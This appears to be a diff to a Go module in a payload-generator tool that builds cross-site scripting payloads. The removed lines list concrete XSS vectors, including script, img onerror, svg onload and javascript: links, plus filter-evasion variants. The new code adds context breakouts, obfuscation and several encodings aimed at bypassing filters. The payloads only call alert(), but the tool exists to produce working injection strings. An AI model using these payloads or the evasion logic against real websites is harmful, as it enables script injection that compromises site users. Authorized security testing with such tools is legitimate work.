@@ -1,69 +1,58 @@
 package modules
 
-import (
-	"encoding/json"
-	"os"
-	"path/filepath"
-	"strconv"
-	"strings"
-
-	"github.com/rajaabdullahnasir/Custom-Payload-Generator/utils"
-)
+import "github.com/rajaabdullahnasir/Custom-Payload-Generator/utils"
 
 // XSSPayload defines the structure for an XSS payload
 type XSSPayload struct {
-	Type         string `json:"type"`
-	Payload      string `json:"payload"`
-	URLEncoded   string `json:"url_encoded,omitempty"`
-	Base64       string `json:"base64,omitempty"`
-	HexEncoded   string `json:"hex_encoded,omitempty"`
-	Unicode      string `json:"unicode,omitempty"`
-	Obfuscated   string `json:"obfuscated,omitempty"`
-	Bypass       bool   `json:"bypass"`
-	Original     string `json:"original,omitempty"`
+	Type       string          `json:"type"`
+	Context    string          `json:"context"`
+	Breakout   string          `json:"breakout,omitempty"`
+	Tags       []string        `json:"tags,omitempty"`
+	Payload    string          `json:"payload"`
+	Encodings  []utils.Variant `json:"encodings,omitempty"`
+	Obfuscated string          `json:"obfuscated,omitempty"`
+	Bypass     bool            `json:"bypass"`
+	Original   string          `json:"original,omitempty"`
 }
 
-// GenerateXSSPayloads creates multiple XSS payloads with encoding and obfuscation
-func GenerateXSSPayloads() ([]XSSPayload, error) {
-	var payloads []XSSPayload
+// LoadXSSPayloads loads XSS templates from the embedded xss.json and any user layers
+func LoadXSSPayloads(opts Options) ([]XSSPayload, error) {
+	return loadCorpus[XSSPayload](opts, "xss", "xss.json")
+}
 
-	types := map[string][]string{
-		"Reflected": {
-			`<script>alert({n})</script>`,
-			`<img src=x onerror=alert({n})>`,
-			`<svg onload=alert({n})>`,
-			`<iframe srcdoc="<script>alert({n})</script>">`,
-		},
-		"Stored": {
-			`<body onload=alert({n})>`,
-			`<input autofocus onfocus=alert({n})>`,
-			`<details open ontoggle=alert({n})>`,
-			`<math href="javascript:alert({n})">`,
-		},
-		"DOM": {
-			`<a href="javascript:alert({n})">`,
-			`<img src=x onerror=alert({n})>`,
-			`<scr<script>ipt>alert({n})</scr</script>ipt>`,
-			`<svg><desc><![CDATA[<script>alert({n})</script>]]></desc></svg>`,
-		},
+// GenerateXSSPayloads builds payloads for every selected injection context. Corpus html vectors are
+// placed behind the context's breakout; vectors written for a specific context are used as-is.
+func GenerateXSSPayloads(opts Options) ([]XSSPayload, error) {
+	templates, err := LoadXSSPayloads(opts)
+	if err != nil {
+		return nil, err
 	}
 
-	for t, templates := range types {
+	rng := opts.rng()
+	obfuscate := func(s string) string { return utils.ObfuscateXSS(rng, s) }
+	var payloads []XSSPayload
+	for _, ctx := range opts.xssContexts() {
 		for _, tpl := range templates {
-			for i := 1; i <= 2; i++ {
-				raw := strings.ReplaceAll(tpl, "{n}", strconv.Itoa(i))
+			p := tpl
+			switch {
+			case tpl.Context == ctx.Name:
+			case (tpl.Context == "" || tpl.Context == "html") && ctx.HTML:
+				p.Breakout = ctx.Breakout
+				p.Payload = ctx.Breakout + tpl.Payload + ctx.Suffix
+			default:
+				continue
+			}
+			p.Context = ctx.Name
 
-				payloads = append(payloads, XSSPayload{
-					Type:       t,
-					Original:   raw,
-					Payload:    utils.ObfuscateXSS(raw),
-					URLEncoded: utils.EncodeURL(raw),
-					Base64:     utils.EncodeBase64(raw),
-					HexEncoded: utils.EncodeHex(raw),
-					Unicode:    utils.EncodeUnicode(raw),
-					Obfuscated: utils.ObfuscateXSS(raw),
-					Bypass:     true,
-				})
+			for _, e := range expand(opts, p.Payload) {
+				raw := e.Text
+
+				v := p
+				v.Original = raw
+				v.Payload = obfuscateChecked(raw, obfuscate, utils.ValidateHTML)
+				v.Encodings = utils.EncodeVariants(raw, opts.encoders())
+				v.Obfuscated = obfuscateChecked(raw, obfuscate, utils.ValidateHTML)
+				payloads = append(payloads, v)
 			}
 		}
 	}
@@ -71,18 +60,16 @@ func GenerateXSSPayloads() ([]XSSPayload, error) {
 	return payloads, nil
 }
 
-// SaveXSSPayloadsToFile writes XSS payloads to JSON
-func SaveXSSPayloadsToFile(payloads []XSSPayload) error {
-	data, err := json.MarshalIndent(payloads, "", "  ")
-	if err != nil {
-		return err
-	}
-	path := filepath.Join("payloads", "xss.json")
-	return os.WriteFile(path, data, 0644)
+// Text returns the delivered form of the XSS payload
+func (p XSSPayload) Text() string {
+	return p.Payload
+}
+
+func init() {
+	register("xss", "Generate XSS payloads", GenerateXSSPayloads)
 }
 
 // SaveXSSPayloads outputs the payloads using the generic JSON output utility
 func SaveXSSPayloads(payloads []XSSPayload) error {
 	return utils.SaveAsJSON(payloads, "xss")
 }
-